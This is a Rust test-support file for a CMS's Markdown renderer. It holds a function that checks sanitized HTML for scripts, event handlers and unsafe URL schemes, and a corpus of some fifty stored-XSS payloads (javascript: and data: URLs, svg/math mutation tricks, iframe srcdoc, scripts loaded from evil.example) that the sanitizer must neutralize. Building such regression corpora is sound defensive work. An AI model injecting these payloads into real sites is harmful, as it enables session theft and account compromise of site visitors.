//! The stored-XSS corpus and the check that rendered HTML holds no active content: used by
//! the renderer's own tests (`content::markdown`) and by the integration tests that push the
//! corpus through the CMS preview and the public page. Not part of the application.

use super::markdown::MEDIA_PREFIX;

/// Whether `html` (ammonia's well-formed output) holds anything a browser would run or
/// that could carry a payload: a tag outside the allow-list, an event handler or style,
/// or a URL with a scheme other than http(s)/mailto. Returns what it found.
pub fn active_content(html: &str) -> Option<String> {
    const ALLOWED: &[&str] = &[
        "a",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "em",
        "strong",
        "del",
        "code",
        "pre",
        "blockquote",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "img",
        "sup",
        "div",
        "section",
        "span",
    ];
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let tail = &rest[start + 1..];
        let end = tail.find('>').unwrap_or(tail.len());
        let tag = &tail[..end];
        rest = &tail[end..];
        let tag = tag.trim_start_matches('/');
        let name: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_ascii_lowercase();
        if !ALLOWED.contains(&name.as_str()) {
            return Some(format!("tag <{tag}>"));
        }
        for (key, value) in attributes(&tag[name.len()..]) {
            if key.starts_with("on") || ["style", "srcdoc", "formaction"].contains(&key.as_str()) {
                return Some(format!("attribute {key} in <{tag}>"));
            }
            if key == "href" || key == "src" {
                let scheme_ok = !value.contains(':')
                    || value.starts_with("http://")
                    || value.starts_with("https://")
                    || value.starts_with("mailto:");
                if !scheme_ok {
                    return Some(format!("url {value} in <{tag}>"));
                }
                if key == "src"
                    && !(value.starts_with("https://") || value.starts_with(MEDIA_PREFIX))
                {
                    return Some(format!("image from {value}"));
                }
            }
        }
    }
    None
}

/// `(name, value)` of each attribute in serialised HTML (values double-quoted, as ammonia
/// writes them), names and values lower-cased.
fn attributes(mut rest: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    loop {
        rest = rest.trim_start();
        let end = rest
            .find(|c: char| c == '=' || c.is_whitespace() || c == '/')
            .unwrap_or(rest.len());
        if end == 0 {
            if rest.is_empty() {
                return out;
            }
            rest = &rest[1..];
            continue;
        }
        let name = rest[..end].to_ascii_lowercase();
        rest = &rest[end..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix("=\"") {
            let close = after.find('"').unwrap_or(after.len());
            value = after[..close].to_ascii_lowercase();
            rest = after.get(close + 1..).unwrap_or("");
        }
        out.push((name, value));
    }
}

/// Stored XSS: each entry is Markdown an attacker with an editor account (or a stolen
/// one) might save. None may render with active content.
pub const XSS_CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](http://tracker.example/pixel.gif)",
    "![x](/static/../admin/x.png)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div><p>unclosed <b>nested <i>markup",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" rel=\"opener\">ok</a>",
    "[ok](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
    "<https://ok.example/?q=\"><script>alert(1)</script>>",
    "<javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "`<script>` is code, <template><script>alert(1)</script></template>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>x</script> | b |",
    "Footnote[^1].\n\n[^1]: <script>alert(1)</script>",
];
